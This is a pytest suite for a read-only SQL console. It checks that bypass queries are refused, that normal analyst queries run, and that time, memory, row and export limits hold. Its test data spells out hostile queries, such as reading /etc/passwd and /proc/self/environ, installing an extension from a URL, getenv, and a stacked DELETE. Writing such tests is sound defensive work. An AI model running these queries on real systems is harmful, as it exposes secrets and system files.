"""The read-only console: every bypass the issue found is refused, reads still work."""

from __future__ import annotations

from pathlib import Path

import pytest

from warehouse.console import QueryRefused, check_query, run_query

BYPASSES = {
    "explain analyze copy": "EXPLAIN ANALYZE COPY (SELECT 1 AS x) TO '{out}'",
    "copy": "COPY (SELECT 1 AS x) TO '{out}'",
    "read_text": "SELECT * FROM read_text('/etc/passwd')",
    "read_text environ": "SELECT content FROM read_text('/proc/self/environ')",
    "read_csv in a subquery": "SELECT (SELECT count(*) FROM read_csv('/etc/passwd')) AS n",
    "glob": "SELECT * FROM glob('/root/**')",
    "file as a table": "SELECT * FROM '/etc/hosts'",
    "file to describe": "DESCRIBE '/etc/passwd'",
    "file to show": "SHOW '/etc/passwd'",
    "spatial reader": "SELECT * FROM st_read('/etc/passwd')",
    "http url as a table": "SELECT * FROM 'http://127.0.0.1:9/x.parquet'",
    "http url literal": "SELECT 'https://example.com/x.csv' AS u",
    "install from a url": "INSTALL 'http://127.0.0.1:9/evil.duckdb_extension'",
    "install": "INSTALL httpfs",
    "load": "LOAD httpfs",
    "attach": "ATTACH '{out}' AS other",
    "set": "SET enable_external_access = true",
    "reset": "RESET lock_configuration",
    "pragma": "PRAGMA version",
    "call": "CALL pragma_version()",
    "query() runs a string": "SELECT * FROM query('SELECT 1')",
    "getenv": "SELECT getenv('HOME')",
    "two statements": "SELECT 1; SELECT 2",
    "a write after a read": "SELECT 1; DELETE FROM documents",
    "explain of a write": "EXPLAIN DELETE FROM documents",
    "delete": "DELETE FROM documents",
    "create": "CREATE TABLE t AS SELECT 1",
    "export": "EXPORT DATABASE '{out}'",
}


@pytest.mark.parametrize("name", sorted(BYPASSES))
def test_each_bypass_is_refused_with_one_line_and_nothing_written(name: str, filled_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "leak.csv"
    sql = BYPASSES[name].format(out=out)
    with pytest.raises(QueryRefused) as refused:
        check_query(sql)
    reason = str(refused.value)
    assert reason and "\n" not in reason
    with pytest.raises(QueryRefused):
        run_query(filled_db, sql)
    assert not out.exists()


@pytest.mark.parametrize("sql", [
    "SELECT count(*) FROM mentions",
    "WITH t AS (SELECT platform FROM mentions) SELECT platform, count(*) FROM t GROUP BY 1",
    "VALUES (1, 'a'), (2, 'b')",
    "FROM daily_trends LIMIT 3",
    "SHOW TABLES",
    "SHOW ALL TABLES",
    "SHOW mentions",
    "DESCRIBE mentions",
    "SUMMARIZE SELECT sentiment_score FROM mentions",
    "EXPLAIN SELECT count(*) FROM mentions",
    "EXPLAIN ANALYZE SELECT count(*) FROM mentions",
    "SELECT url FROM mentions WHERE url LIKE 'http%' LIMIT 1",
])
def test_plain_reads_are_answered(sql: str, filled_db: Path) -> None:
    columns, rows = run_query(filled_db, sql)
    assert columns and rows


def test_the_row_limit_caps_what_comes_back(filled_db: Path) -> None:
    columns, rows = run_query(filled_db, "SELECT doc_id FROM mentions ORDER BY doc_id", limit=7)
    assert columns == ["doc_id"] and len(rows) == 7
    _, everything = run_query(filled_db, "SELECT doc_id FROM mentions ORDER BY doc_id")
    assert len(everything) == 90 and everything[:7] == rows


def test_the_console_connection_is_locked_down_even_past_the_guard(filled_db: Path) -> None:
    # current_setting passes the guard; what it reports is the connection's real state.
    _, rows = run_query(
        filled_db,
        "SELECT current_setting('enable_external_access'), current_setting('lock_configuration'), "
        "current_setting('access_mode')",
    )
    assert rows == [(False, True, "read_only")]


# --------------------------------------------------------------------------- issue 19: legitimate
# queries pass, and each query runs in a process of its own within its limits.

from warehouse.console import Limits, QueryStopped, RunningQuery  # noqa: E402
from warehouse.database import connect  # noqa: E402

RUNAWAY = ("SELECT count(*) FROM mentions a, mentions b, mentions c, mentions d "
           "WHERE a.title || b.text || c.text || d.text LIKE '%no such words%'")


@pytest.mark.parametrize("sql", [
    "SELECT count(*) FROM mentions WHERE url LIKE 'https://example.pe/%'",
    "SELECT count(*) FROM mentions WHERE starts_with(url, 'https://example.pe/1') OR url = 'https://example.pe/2'",
    "SELECT count(*) FROM mentions WHERE url IN ('https://example.pe/1', 'https://example.pe/2')",
    "PIVOT mentions ON stance USING count(*) GROUP BY platform",
    "SELECT * FROM (PIVOT mentions ON stance USING count(*) GROUP BY platform) ORDER BY platform",
    "WITH daily AS (SELECT day, count(*) AS n FROM mentions GROUP BY day) SELECT day, n, "
    "avg(n) OVER (ORDER BY day ROWS BETWEEN 6 PRECEDING AND CURRENT ROW) AS week FROM daily ORDER BY day",
    "SELECT platform, doc_id, row_number() OVER (PARTITION BY platform ORDER BY published_at DESC) AS nth "
    "FROM mentions QUALIFY nth <= 2",
])
def test_queries_an_analyst_writes_are_answered(sql: str, filled_db: Path) -> None:
    columns, rows = run_query(filled_db, sql)
    assert columns and rows


@pytest.mark.parametrize("sql", [
    "PIVOT (SELECT * FROM read_text('/etc/passwd')) ON content USING count(*)",
    "PIVOT '/etc/passwd' ON content USING count(*)",
    "CREATE TABLE t AS PIVOT mentions ON stance USING count(*)",
    "INSERT INTO documents PIVOT mentions ON stance USING count(*)",
    "SELECT coalesce(url, 'https://evil.example/x.csv') FROM mentions",
])
def test_what_the_new_forms_could_hide_is_still_refused(sql: str, filled_db: Path) -> None:
    with pytest.raises(QueryRefused):
        check_query(sql)
    with pytest.raises(QueryRefused):
        run_query(filled_db, sql)


def test_a_console_query_never_disturbs_the_connections_of_the_process_that_asked(filled_db: Path) -> None:
    # The page holds its own read connection to the snapshot while the SQL tab asks a query:
    # the console once opened the same file in-process with another configuration, which failed.
    with connect(filled_db, read_only=True) as page:
        columns, rows = run_query(filled_db, "SELECT count(*) AS n FROM mentions")
        assert rows == [(90,)]
        assert page.execute("SELECT count(*) FROM mentions").fetchall() == [(90,)]
    with connect(filled_db, read_only=True) as again:
        assert again.execute("SELECT count(*) FROM daily_trends").fetchall()[0][0] > 0


def test_a_runaway_query_is_stopped_at_its_time_limit_with_one_line(filled_db: Path) -> None:
    with RunningQuery(filled_db, RUNAWAY, limits=Limits(seconds=2)) as running:
        with pytest.raises(QueryStopped, match="time limit of 2 s") as stopped:
            running.result()
        assert running.process.poll() is not None and running.elapsed < 6
    assert "\n" not in str(stopped.value)


def test_a_query_past_its_memory_limit_is_stopped_with_one_line(filled_db: Path) -> None:
    sql = "SELECT a.doc_id, list(b.text || c.text ORDER BY b.text) FROM mentions a, mentions b, mentions c GROUP BY 1"
    with pytest.raises(QueryStopped, match="memory limit of 64 MB"):
        run_query(filled_db, sql, limits=Limits(seconds=60, memory_mb=64))


def test_rows_shown_are_capped_and_the_whole_result_still_exports(filled_db: Path) -> None:
    sql = "SELECT a.doc_id, b.doc_id AS other FROM mentions a, mentions b ORDER BY 1, 2"  # 8,100 rows
    with RunningQuery(filled_db, sql, limits=Limits(rows=50)) as running:
        shown = running.result()
    assert len(shown.rows) == 50 and shown.more
    with RunningQuery(filled_db, sql, limits=Limits(rows=50), output="csv") as running:
        exported = running.result()
        lines = exported.export.read_text(encoding="utf-8").splitlines()
    assert exported.written == 8100 and len(lines) == 8101 and lines[0] == "doc_id,other"


def test_an_export_past_its_size_limit_is_stopped(filled_db: Path) -> None:
    with RunningQuery(filled_db, "SELECT a.text, b.text, c.text FROM mentions a, mentions b, mentions c",
                      limits=Limits(export_mb=1), output="csv") as running:
        with pytest.raises(QueryStopped, match="size limit of 1 MB"):
            running.result()


def test_a_cancelled_query_ends_its_process_at_once(filled_db: Path) -> None:
    import time

    with RunningQuery(filled_db, RUNAWAY, limits=Limits(seconds=120)) as running:
        assert not running.wait(timeout=1.5)
        started = time.monotonic()
        running.cancel()
        assert running.process.poll() is not None and time.monotonic() - started < 2
        with pytest.raises(QueryStopped, match="cancelled"):
            running.result()


def test_limits_come_from_the_environment_and_a_bad_value_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("VIGIA_SQL_TIMEOUT", "5")
    monkeypatch.setenv("VIGIA_SQL_MAX_ROWS", "10")
    assert (Limits.from_env().seconds, Limits.from_env().rows, Limits.from_env(rows=3).rows) == (5, 10, 3)
    monkeypatch.setenv("VIGIA_SQL_MEMORY_MB", "lots")
    with pytest.raises(ValueError, match="VIGIA_SQL_MEMORY_MB"):
        Limits.from_env()
